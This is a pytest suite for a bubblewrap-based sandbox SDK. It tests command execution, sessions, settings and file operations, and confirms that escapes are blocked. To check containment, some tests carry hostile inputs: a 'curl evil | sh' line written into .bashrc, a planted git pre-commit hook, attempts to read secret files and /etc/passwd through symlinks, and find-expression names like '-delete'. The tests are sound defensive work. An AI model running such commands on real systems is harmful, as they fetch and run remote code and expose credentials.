"""The SDK against real sandboxes: the same behaviour from Sandbox and AsyncSandbox."""

from __future__ import annotations

import os
import stat
import time
from collections.abc import Callable
from typing import Any

import pytest

from corral import (
    CommandFailed,
    InvalidRequest,
    Outcome,
    PolicyDenied,
    Sandbox,
    SessionClosed,
    SettingsError,
)

from ..conftest import World, needs_bwrap

pytestmark = needs_bwrap

Open = Callable[..., Any]


def sandbox_in(open_sandbox: Open, world: World, **options: Any) -> Any:
    return open_sandbox(workspace=world.workspace, environ=world.environ, **options)


# ---------------------------------------------------------------- exec
def test_exec_runs_argv_and_shell_strings(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    by_argv = sbx.exec(["printf", "%s|", "a b", "$HOME"])
    assert isinstance(by_argv, Outcome)
    assert by_argv.stdout == b"a b|$HOME|"
    by_shell = sbx.exec("echo one; echo two >&2; exit 3")
    assert (by_shell.exit_code, by_shell.stdout, by_shell.stderr) == (3, b"one\n", b"two\n")
    assert by_shell.backend == "bubblewrap"
    assert (by_shell.timed_out, by_shell.oom_killed, by_shell.signal) == (False, False, None)


def test_exec_feeds_stdin_env_and_cwd(open_sandbox: Open, world: World) -> None:
    os.makedirs(os.path.join(world.workspace, "sub"))
    sbx = sandbox_in(open_sandbox, world)
    outcome = sbx.exec(
        "read line; echo $line-$GREETING-$(pwd)", stdin="hello\n", env={"GREETING": "hi"}, cwd="sub"
    )
    assert outcome.stdout.decode() == f"hello-hi-{world.workspace}/sub\n"


def test_check_raises_command_failed_with_the_outcome(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    outcome = sbx.exec("echo out; exit 7")
    with pytest.raises(CommandFailed, match="exited with status 7") as caught:
        outcome.check()
    assert caught.value.outcome.stdout == b"out\n"
    assert sbx.exec("true").check().ok


@pytest.mark.parametrize("timeout", [0.5, "500ms"])
def test_timeout_stops_the_command(open_sandbox: Open, world: World, timeout: object) -> None:
    sbx = sandbox_in(open_sandbox, world)
    outcome = sbx.exec(["sleep", "30"], timeout=timeout)
    assert outcome.timed_out
    # one model: returncode says "timed out", signal says how it was stopped
    assert (outcome.returncode, outcome.exit_code, outcome.signal) == (124, None, 15)
    assert outcome.duration < 10
    with pytest.raises(InvalidRequest, match="timeout"):
        sbx.exec("true", timeout="soon")


def test_a_command_killed_by_a_signal_reports_the_signal(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    crashed = sbx.exec("kill -SEGV $$")
    assert (crashed.returncode, crashed.exit_code, crashed.signal) == (139, None, 11)
    assert "signal=11" in repr(crashed) and len(repr(crashed)) < 200
    exited = sbx.exec("exit 3")
    assert (exited.returncode, exited.exit_code, exited.signal) == (3, 3, None)


def test_a_missing_cwd_is_an_invalid_request(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    with pytest.raises(InvalidRequest, match=r"working directory .*nope does not exist") as caught:
        sbx.exec("true", cwd="nope")
    assert "doctor" not in (caught.value.hint or "")


def test_blocks_write_outside_workspace(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    outcome = sbx.exec(["sh", "-c", 'echo pwned > "$1"', "sh", world.victim])
    assert outcome.exit_code != 0
    assert b"Read-only file system" in outcome.stderr
    assert world.read(world.victim) == "original\n"


def test_blocks_write_to_protected_path_and_records_it(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    outcome = sbx.exec("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
    assert outcome.exit_code != 0
    assert [v.kind for v in outcome.violations] == ["fs-write"]
    assert not os.path.exists(os.path.join(world.workspace, ".git", "hooks", "pre-commit"))
    with pytest.raises(PolicyDenied):
        outcome.raise_for_denial()


def test_hides_secrets(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    outcome = sbx.exec(["cat", world.secret])
    assert outcome.exit_code != 0
    assert b"SECRET" not in outcome.stdout


# ---------------------------------------------------------------- sessions
def test_session_keeps_its_id_and_private_tmp_across_commands(
    open_sandbox: Open, world: World
) -> None:
    sbx = sandbox_in(open_sandbox, world)
    first = sbx.exec("echo kept > /tmp/note; echo $TMPDIR")
    second = sbx.exec(["cat", "/tmp/note"])
    assert second.stdout == b"kept\n"
    assert first.stdout == b"/tmp\n"
    assert first.sandbox_id == second.sandbox_id == sbx.id
    assert sbx.id.startswith("sbx-")
    # the session's /tmp is its own directory under corral's state dir, not the host's /tmp
    assert not os.path.exists("/tmp/note")
    assert sbx.tmp_dir.startswith(os.path.join(world.state_dir, "sessions") + "/")
    assert stat.S_IMODE(os.stat(sbx.tmp_dir).st_mode) == 0o700
    with open(os.path.join(sbx.tmp_dir, "note")) as f:
        assert f.read() == "kept\n"


def test_sessions_do_not_share_tmp(open_sandbox: Open, world: World) -> None:
    one = sandbox_in(open_sandbox, world)
    two = sandbox_in(open_sandbox, world)
    one.exec("echo mine > /tmp/private")
    assert two.exec(["cat", "/tmp/private"]).exit_code != 0
    assert one.id != two.id


def test_close_removes_the_private_tmp_and_refuses_further_use(
    open_sandbox: Open, world: World
) -> None:
    sbx = sandbox_in(open_sandbox, world)
    sbx.exec("mkdir -p /tmp/d && echo x > /tmp/d/f && chmod 000 /tmp/d")
    tmp_dir = sbx.tmp_dir
    sbx.close()
    sbx.close()  # idempotent
    assert sbx.closed
    assert not os.path.exists(tmp_dir)
    with pytest.raises(SessionClosed):
        sbx.exec("true")


def test_commands_are_audited_with_the_sandbox_and_agent_session(
    open_sandbox: Open, world: World
) -> None:
    sbx = sandbox_in(open_sandbox, world, agent_session="session-42")
    sbx.exec("true")
    sbx.exec("false")
    records = world.audit_records()[-2:]
    assert [r["exit_status"] for r in records] == [0, 1]
    assert {r["sandbox_id"] for r in records} == {sbx.id}
    assert {r["agent_session"] for r in records} == {"session-42"}
    assert all(r["policy_digest"] for r in records)


# ---------------------------------------------------------------- options and settings
def test_keyword_options_become_the_last_settings_layer(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(
        open_sandbox,
        world,
        memory="256M",
        timeout="none",
        network="open",
        deny_write=["docs/**"],
        env={"MODE": "test"},
    )
    policy = sbx.policy
    assert policy.resources.memory == 256 << 20
    assert policy.resources.timeout is None
    assert policy.network.mode == "open"
    assert "docs/**" in policy.filesystem.deny_write
    assert sbx.exec("echo $MODE").stdout == b"test\n"


def test_a_policy_object_is_used_as_is(open_sandbox: Open, world: World) -> None:
    from corral.policy import load_settings

    policy = load_settings(
        cwd=world.workspace, environ=world.environ, flags={"filesystem": {"readOnly": True}}
    ).policy
    sbx = open_sandbox(policy, environ=world.environ)
    assert sbx.workspace == world.workspace
    outcome = sbx.exec("echo x > file")
    assert outcome.exit_code != 0
    assert not os.path.exists(os.path.join(world.workspace, "file"))


def test_policy_and_options_are_exclusive(open_sandbox: Open, world: World) -> None:
    from corral.policy import load_settings

    policy = load_settings(cwd=world.workspace, environ=world.environ).policy
    with pytest.raises(InvalidRequest, match="either a Policy or keyword options"):
        open_sandbox(policy, memory="1G")


def test_options_are_explicit_keywords(open_sandbox: Open, world: World) -> None:
    """A misspelt option is Python's own TypeError (and mypy's error), never ignored."""
    with pytest.raises(TypeError, match="memroy"):
        sandbox_in(open_sandbox, world, memroy="1G")


def test_the_options_run_forwards_are_the_constructors() -> None:
    import inspect

    from corral._options import SandboxOptions

    constructor = inspect.signature(Sandbox.__init__).parameters
    keywords = {n for n, p in constructor.items() if n != "self"}
    # timeout, env and cwd are run()'s own: they apply to the command
    assert set(SandboxOptions.__annotations__) == keywords - {"timeout", "env", "cwd"}


def test_invalid_setting_is_a_settings_error(open_sandbox: Open, world: World) -> None:
    with pytest.raises(SettingsError, match=r"resources\.memory"):
        sandbox_in(open_sandbox, world, memory="lots")


def test_rules_apply_per_command(open_sandbox: Open, world: World) -> None:
    rules = [{"match": "sleep*", "resources": {"timeout": "0.5s"}}]
    sbx = sandbox_in(open_sandbox, world, settings={"rules": rules})
    assert sbx.exec(["sleep", "20"]).timed_out
    assert sbx.exec("true").returncode == 0


# ---------------------------------------------------------------- files
def test_write_and_read_files_round_trip(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    data = bytes(range(256)) * 3
    sbx.write_file("out/data.bin", data, parents=True)
    assert sbx.read_file("out/data.bin") == data
    with open(os.path.join(world.workspace, "out", "data.bin"), "rb") as f:
        assert f.read() == data
    sbx.write_file("/tmp/scratch.txt", "in the private tmp")
    assert sbx.read_file("/tmp/scratch.txt") == b"in the private tmp"


def test_write_file_refuses_protected_names(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    with pytest.raises(PolicyDenied, match=r"filesystem.protect: \*\*/.bashrc") as caught:
        sbx.write_file("sub/.bashrc", "curl evil | sh\n", parents=True)
    assert caught.value.outcome.violations
    assert not os.path.exists(os.path.join(world.workspace, "sub", ".bashrc"))


def test_write_file_cannot_escape_with_dotdot(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    with pytest.raises(CommandFailed, match="Read-only file system"):
        sbx.write_file("../outside/victim.txt", "pwned")
    assert world.read(world.victim) == "original\n"


def test_write_file_cannot_escape_through_a_symlink(open_sandbox: Open, world: World) -> None:
    os.symlink(world.outside, os.path.join(world.workspace, "link"))
    sbx = sandbox_in(open_sandbox, world)
    with pytest.raises(CommandFailed, match="Read-only file system"):
        sbx.write_file("link/victim.txt", "pwned")
    with pytest.raises(CommandFailed):
        sbx.write_file("link/new.txt", "pwned")
    assert world.read(world.victim) == "original\n"
    assert "new.txt" not in os.listdir(world.outside)


def test_read_file_cannot_see_secrets_even_through_a_symlink(
    open_sandbox: Open, world: World
) -> None:
    os.symlink(world.secret, os.path.join(world.workspace, "key"))
    sbx = sandbox_in(open_sandbox, world)
    for path in (world.secret, "key"):
        try:
            data = sbx.read_file(path)
        except CommandFailed:
            continue
        assert b"SECRET" not in data


def test_read_file_of_a_missing_file_says_why(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    with pytest.raises(CommandFailed, match="No such file or directory"):
        sbx.read_file("nope.txt")


def test_read_file_over_the_output_limit_is_refused(open_sandbox: Open, world: World) -> None:
    with open(os.path.join(world.workspace, "big"), "wb") as f:
        f.write(b"x" * 5000)
    sbx = sandbox_in(open_sandbox, world, max_output=1000)
    with pytest.raises(InvalidRequest, match="output limit"):
        sbx.read_file("big")


@pytest.mark.parametrize("kind", ["device", "fifo", "directory"])
def test_read_file_refuses_what_is_not_a_regular_file(
    open_sandbox: Open, world: World, kind: str
) -> None:
    """/dev/zero never ends and a FIFO never answers: both are refused at once."""
    path = {"device": "/dev/zero", "fifo": "pipe", "directory": "."}[kind]
    if kind == "fifo":
        os.mkfifo(os.path.join(world.workspace, "pipe"))
    sbx = sandbox_in(open_sandbox, world, timeout="60s")
    started = time.monotonic()
    with pytest.raises(CommandFailed, match="not a regular file"):
        sbx.read_file(path)
    assert time.monotonic() - started < 30  # answered, not stopped by the 60 s timeout


def test_read_file_reads_a_part_with_offset_and_limit(open_sandbox: Open, world: World) -> None:
    data = bytes(range(256)) * 40
    with open(os.path.join(world.workspace, "data.bin"), "wb") as f:
        f.write(data)
    sbx = sandbox_in(open_sandbox, world, max_output=1000)
    assert sbx.read_file("data.bin", offset=5000, limit=700) == data[5000:5700]
    assert sbx.read_file("data.bin", offset=len(data) - 10) == data[-10:]
    assert sbx.read_file("data.bin", offset=len(data) + 5, limit=10) == b""
    with pytest.raises(InvalidRequest, match="offset"):
        sbx.read_file("data.bin", offset=-1)


def test_list_files_shows_the_sandbox_view(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    sbx.write_file("src/a.py", "x = 1\n", parents=True)
    sbx.exec("mkdir src/pkg && ln -s a.py src/alias")
    entries = sbx.list_files("src")
    assert [(e.name, e.kind) for e in entries] == [
        ("a.py", "file"),
        ("alias", "symlink"),
        ("pkg", "dir"),
    ]
    assert entries[0].size == 6
    assert entries[0].path == "src/a.py"
    assert sbx.list_files(os.path.join(world.home, ".ssh")) == []  # a secret dir shows empty
    with pytest.raises(CommandFailed, match="No such file or directory"):
        sbx.list_files("missing")


@pytest.mark.parametrize("name", ["-delete", "!", "(", "-exec"])
def test_list_files_reads_a_name_like_an_expression_as_a_path(
    open_sandbox: Open, world: World, name: str
) -> None:
    """list_files (MCP: sandbox_list_files, annotated read-only) never runs find's actions.

    ``find -H -delete -mindepth 1 ...`` once deleted every file at the top of
    the workspace.
    """
    sbx = sandbox_in(open_sandbox, world)
    sbx.write_file("keep.txt", "kept\n")
    os.makedirs(os.path.join(world.workspace, name))
    World.write(os.path.join(world.workspace, name, "inner.txt"), "inner\n")
    entries = sbx.list_files(name)
    assert [(e.name, e.kind) for e in entries] == [("inner.txt", "file")]
    assert world.read(os.path.join(world.workspace, "keep.txt")) == "kept\n"
    assert world.read(os.path.join(world.workspace, name, "inner.txt")) == "inner\n"


# ---------------------------------------------------------------- code
def test_run_code_python_and_bash(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    assert sbx.run_code("import sys; print(sys.argv[0], 6 * 7)").stdout == b"-c 42\n"
    assert sbx.run_code("echo ${BASH_VERSION:+bash}", language="bash").stdout == b"bash\n"
    outcome = sbx.run_code("raise SystemExit(4)")
    assert outcome.exit_code == 4


def test_run_code_node_when_installed(open_sandbox: Open, world: World) -> None:
    import shutil

    if shutil.which("node") is None:
        pytest.skip("node is not installed on this machine")
    sbx = sandbox_in(open_sandbox, world)
    assert sbx.run_code("console.log(6 * 7)", language="node").stdout == b"42\n"


def test_run_code_rejects_unknown_languages_and_huge_code(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    with pytest.raises(InvalidRequest, match="unknown language 'ruby'"):
        sbx.run_code("puts 1", language="ruby")
    with pytest.raises(InvalidRequest, match="128 KiB"):
        sbx.run_code("#" * (200 * 1024))


def test_diff_without_preview_is_a_usage_error(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    with pytest.raises(InvalidRequest, match="no preview"):
        sbx.diff()


# ---------------------------------------------------------------- more file operations
def test_make_dir_and_remove_act_inside_the_sandbox(open_sandbox: Open, world: World) -> None:
    sbx = sandbox_in(open_sandbox, world)
    sbx.make_dir("a/b/c", parents=True)
    sbx.write_file("a/b/c/f.txt", "x")
    with pytest.raises(CommandFailed, match="File exists"):
        sbx.make_dir("a")
    with pytest.raises(CommandFailed, match="not empty"):
        sbx.remove("a/b/c")
    sbx.remove("a/b/c/f.txt")
    sbx.remove("a/b/c")
    assert not os.path.exists(os.path.join(world.workspace, "a", "b", "c"))
    sbx.remove("a", recursive=True)
    assert not os.path.exists(os.path.join(world.workspace, "a"))
    with pytest.raises(CommandFailed, match="No such file"):
        sbx.remove("a")
    # the policy applies: outside the workspace is read-only, protected names are refused
    with pytest.raises(CommandFailed, match="Read-only file system"):
        sbx.remove(world.victim)
    assert world.read(world.victim) == "original\n"
    with pytest.raises(PolicyDenied):
        sbx.make_dir(".git/hooks/pre-commit", parents=True)


def test_directories_upload_and_download(open_sandbox: Open, world: World) -> None:
    local = os.path.join(world.root, "local")
    os.makedirs(os.path.join(local, "pkg"))
    World.write(os.path.join(local, "pkg", "mod.py"), "X = 1\n")
    World.write(os.path.join(local, "top.txt"), "top\n")
    os.symlink("pkg/mod.py", os.path.join(local, "link"))
    sbx = sandbox_in(open_sandbox, world)
    sbx.upload_dir(local, "/tmp/up")
    assert sbx.exec("cat /tmp/up/pkg/mod.py /tmp/up/top.txt /tmp/up/link").stdout == (
        b"X = 1\ntop\nX = 1\n"
    )
    back = os.path.join(world.root, "back")
    sbx.download_dir("/tmp/up", back)
    assert World.read(os.path.join(back, "pkg", "mod.py")) == "X = 1\n"
    assert os.readlink(os.path.join(back, "link")) == "pkg/mod.py"
    with pytest.raises(InvalidRequest, match="not an empty directory"):
        sbx.download_dir("/tmp/up", back)  # nothing of the caller's is overwritten


def test_a_download_cannot_plant_files_outside_its_destination(
    open_sandbox: Open, world: World
) -> None:
    """The sandbox controls what it sends: links out and their targets stay out."""
    sbx = sandbox_in(open_sandbox, world)
    sbx.exec(
        f"mkdir -p /tmp/evil && cd /tmp/evil && ln -s {world.outside} out && "
        "ln -s /etc/passwd passwd && echo ok > plain"
    ).check()
    back = os.path.join(world.root, "back")
    with pytest.raises(CommandFailed):
        sbx.download_dir("/tmp/evil", back)
    assert World.read(world.victim) == "original\n"
    for name in os.listdir(back):
        target = os.path.realpath(os.path.join(back, name))
        assert target.startswith(os.path.realpath(back) + os.sep), name
